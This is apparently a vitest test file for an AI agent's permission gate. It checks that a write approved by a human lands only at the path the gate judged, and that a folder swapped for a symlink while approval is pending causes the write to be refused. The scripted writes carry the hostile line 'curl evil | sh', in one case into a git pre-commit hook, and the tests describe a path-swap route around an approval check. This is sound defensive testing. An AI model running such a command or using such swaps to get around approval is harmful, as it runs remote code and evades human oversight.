/**
 * A write lands where the gate judged it, whatever the rules and a human said there, and
 * nowhere else: the gate hands the tool the paths it resolved (`ToolContext.judgedPaths`).
 * - A link that was there when the call was made is judged at its real path, and an approved
 *   write through it goes on (it was refused before, since the tool could not tell what the
 *   gate had approved).
 * - A folder swapped for a link while the approval was pending leads to a place nobody
 *   approved: the write is refused, even when that place merely asks as the approved one did.
 */
import { readFile, rename, symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ReActAgent } from '../../src/agent/react-agent.js';
import type { AgentEvent } from '../../src/events/agent-event.js';
import { ScriptedModel } from '../../src/model/scripted-model.js';
import type { ApprovalHandler } from '../../src/permission/approval.js';
import { PermissionPolicy } from '../../src/permission/permission-policy.js';
import { createBuiltinTools } from '../../src/tools/builtin/index.js';
import { collect } from '../support/collect-events.js';
import { toolContextPerTest } from '../support/tool-context-per-test.js';

const fresh = toolContextPerTest();

/** Runs one `write` call of `path` under the default rules (or `permissions`), answered by `approve`; its ToolCallEnd and what was asked. */
async function writeOnce(path: string, approve: ApprovalHandler, permissions?: PermissionPolicy) {
  const model = new ScriptedModel([{ toolCalls: [{ id: 'w', name: 'write', args: { path, content: 'curl evil | sh\n' } }] }, { text: 'done' }]);
  const agent = new ReActAgent({ model, workspace: fresh.ws.dir, tools: createBuiltinTools(), approve, ...(permissions ? { permissions } : {}) });
  const events: AgentEvent[] = await collect(agent.stream('go'));
  const end = events.find((e) => e.type === 'ToolCallEnd');
  const asked = events.flatMap((e) => (e.type === 'HITLPending' ? [e.reason] : []));
  return { end: end?.type === 'ToolCallEnd' ? end : undefined, asked };
}

describe('a write lands where the gate judged it', () => {
  it('an approved write through a link that was already there goes on, to the real path the human was asked about', async () => {
    await fresh.ws.file('.git/hooks/keep', '');
    await symlink('.git/hooks', join(fresh.ws.dir, 'hooks'));
    const { end, asked } = await writeOnce('hooks/pre-commit', async () => ({ decision: 'approve' }));
    expect(asked).toHaveLength(1); // the real path asks (.git/**), though hooks/pre-commit as written would not
    expect(end?.error).toBeUndefined();
    expect(end?.text).toBe('Created .git/hooks/pre-commit (15 bytes, 1 line)');
    expect(await readFile(join(fresh.ws.dir, '.git/hooks/pre-commit'), 'utf8')).toBe('curl evil | sh\n');
  });

  it('a folder swapped for a link while the approval was pending: the approved place is not where it would land, nothing is written', async () => {
    await fresh.ws.file('sub/keep', '');
    await fresh.ws.file('.git/hooks/keep', '');
    // sub/.env asks (a secrets file); the human approves it, and meanwhile sub becomes a link to .git/hooks
    const approve: ApprovalHandler = async () => {
      await rename(join(fresh.ws.dir, 'sub'), join(fresh.ws.dir, 'moved'));
      await symlink('.git/hooks', join(fresh.ws.dir, 'sub'));
      return { decision: 'approve' };
    };
    const { end, asked } = await writeOnce('sub/.env', approve);
    expect(asked).toHaveLength(1);
    expect(end?.error).toBe(
      'sub/.env now leads to .git/hooks/.env through a symbolic link, where write needs approval; ' +
        'nothing was written. Give .git/hooks/.env itself as the path to have it judged.',
    );
    await expect(readFile(join(fresh.ws.dir, '.git/hooks/.env'), 'utf8')).rejects.toThrow();
  });

  it('a swap to a place the rules allow outright goes on: nothing there needed anyone', async () => {
    await fresh.ws.file('sub/keep', '');
    await fresh.ws.file('plain/keep', '');
    const approve: ApprovalHandler = async () => {
      await rename(join(fresh.ws.dir, 'sub'), join(fresh.ws.dir, 'moved'));
      await symlink('plain', join(fresh.ws.dir, 'sub'));
      return { decision: 'approve' };
    };
    const permissions = new PermissionPolicy({ rules: [{ tool: 'write', action: 'ask', pattern: 'sub/**' }] });
    const { end, asked } = await writeOnce('sub/notes.txt', approve, permissions);
    expect(asked).toHaveLength(1);
    expect(end?.error).toBeUndefined();
    expect(await readFile(join(fresh.ws.dir, 'plain/notes.txt'), 'utf8')).toBe('curl evil | sh\n');
  });
});
